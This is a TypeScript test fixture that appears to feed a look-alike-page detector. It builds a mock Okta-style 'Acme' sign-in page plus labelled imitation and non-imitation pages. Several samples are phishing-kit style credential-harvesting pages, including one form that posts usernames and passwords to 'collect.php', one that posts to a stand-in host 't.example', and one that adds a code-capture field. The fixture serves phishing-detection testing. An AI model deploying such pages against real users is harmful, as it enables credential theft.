/** Pages written for tests, after the shapes of sign-in pages and of what is found under look-alike names. */

const OKTA_LIKE = (
  company: string,
  extra: string,
): string => `<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>${company} - Sign In</title><link rel="icon" href="/img/${company.toLowerCase()}.png"><style>body{font:14px sans-serif}</style></head>
<body><div class="wrapper"><header><img src="/img/logo.png" alt="${company} logo"></header><main><form method="post" action="/api/v1/authn">
<h1>Sign In</h1><label for="u">Username</label><input id="u" name="username" type="text" autocomplete="username">
<label for="p">Password</label><input id="p" name="password" type="password"><label><input type="checkbox" name="remember"> Keep me signed in</label>
<button type="submit">Sign In</button></form>${extra}<a href="/forgot">Forgot password?</a> <a href="/help">Help</a>
<a href="/unlock">Unlock account?</a></main><footer><p>Powered by Okta</p> <a href="/privacy">Privacy Policy</a></footer></div></body></html>`;

const ACME_WORDS = `<section><p>Welcome to the Acme employee portal. This system is for Acme staff and contractors only.
Everything done here is recorded by Acme Security. If you have a new phone, call the Acme service desk in Toledo on extension 4400
before you sign in for the first time.</p><p>Acme will never ask you for your password by text message or on the phone.</p></section>`;

/** The brand's own sign-in page. */
export const OWN_PAGE = OKTA_LIKE('Acme', ACME_WORDS);

export interface TestPage {
  name: string;
  html: string;
  /** Whether a person would take it for the brand's own. */
  imitates: boolean;
  /** Passed as the icon's bytes: the brand's own where equal to `acme`. */
  icon: string | null;
}

export const PAGES: readonly TestPage[] = [
  {
    name: 'saved copy that sends elsewhere',
    html: OWN_PAGE.replace('/api/v1/authn', 'collect.php'),
    imitates: true,
    icon: 'acme',
  },
  {
    name: 'copy with a step for the code',
    html: OWN_PAGE.replace(
      '<button type="submit">',
      '<label>Code from your app</label><input name="otp" type="tel" maxlength="6"><button type="submit">',
    ),
    imitates: true,
    icon: null,
  },
  {
    name: 'rebuilt by a kit: other elements, our words',
    html: `<html><body><script>var k=1</script><table><tr><td><center><b>Acme - Sign In</b></center></td></tr><tr><td>Sign In Username
<input name="a"> Password <input type="password" name="b"> Keep me signed in <input type="submit" value="Go"></td></tr>
<tr><td>Forgot password? Help Unlock account? ${ACME_WORDS.replace(/<[^>]+>/g, ' ')} Powered by Okta Privacy Policy</td></tr></table></body></html>`,
    imitates: true,
    icon: null,
  },
  {
    name: 'kit with our logo and little else',
    html: `<html><head><title>Acme</title></head><body><div><form action="https://t.example/x" method="post"><input type="email" name="e">
<input type="password" name="p"><button>Next</button></form></div></body></html>`,
    imitates: true,
    icon: 'acme',
  },
  {
    name: 'half of our words, same build',
    html: OKTA_LIKE(
      'Acme SSO',
      '<section><p>Welcome to the Acme employee portal. This system is for Acme staff only.</p></section>',
    ),
    imitates: true,
    icon: null,
  },
  {
    name: 'the same product at another company',
    html: OKTA_LIKE(
      'Globex',
      `<section><p>Globex partners sign in with the account that your distributor made for you. Questions about orders go to your
regional office; opening hours are on the intranet. Maintenance takes place on Sundays.</p><p>By signing in you accept the terms
of the partner programme in its current version, including the rules on price lists and samples.</p></section>`,
    ),
    imitates: false,
    icon: 'globex',
  },
  {
    name: 'a bank',
    html: `<html><head><title>Initech Bank</title></head><body><nav><ul><li>Cards</li><li>Loans</li></ul></nav><form><p>Log on to internet
banking with your customer number and your secret word.</p><input name="c"><input type="password" name="s"><input type="submit"></form></body></html>`,
    imitates: false,
    icon: null,
  },
  {
    name: 'for sale',
    html: '<html><head><title>acme-okta.com</title></head><body><h1>This domain is for sale</h1><p>Make an offer for this domain today.</p></body></html>',
    imitates: false,
    icon: null,
  },
  {
    name: 'a hosting company’s placeholder',
    html: '<html><head><title>Welcome to nginx!</title></head><body><h1>Welcome to nginx!</h1><p>If you see this page, the web server is successfully installed and working.</p></body></html>',
    imitates: false,
    icon: null,
  },
  {
    name: 'an article about the brand',
    html: `<html><head><title>Acme in the news</title></head><body><article><h1>Acme opens a plant in Toledo</h1><p>The company said on Monday
that staff and contractors will move in spring. Acme Security was not available for comment.</p></article></body></html>`,
    imitates: false,
    icon: null,
  },
  { name: 'an empty page', html: '<html><head></head><body></body></html>', imitates: false, icon: null },
];
